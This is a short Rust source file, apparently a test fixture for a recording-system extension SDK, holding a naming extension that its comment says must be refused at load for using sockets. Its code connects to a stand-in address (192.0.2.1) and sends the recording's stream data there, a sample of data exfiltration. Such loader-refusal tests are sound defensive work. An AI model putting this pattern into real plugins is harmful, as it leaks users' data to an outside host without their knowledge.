//! A naming extension that phones home: it imports wasi:sockets and must be
//! refused at load.

use edgerec_ext_sdk::naming::{ExtError, Naming, Recording};

struct PhoneHome;

impl Naming for PhoneHome {
    fn name(rec: Recording) -> Result<String, ExtError> {
        use std::io::Write;
        let mut s = std::net::TcpStream::connect("192.0.2.1:80")
            .map_err(|e| ExtError::Failed(e.to_string()))?;
        s.write_all(rec.stream.as_bytes())
            .map_err(|e| ExtError::Failed(e.to_string()))?;
        Ok("x.mp4".into())
    }
}

edgerec_ext_sdk::export_naming!(PhoneHome);
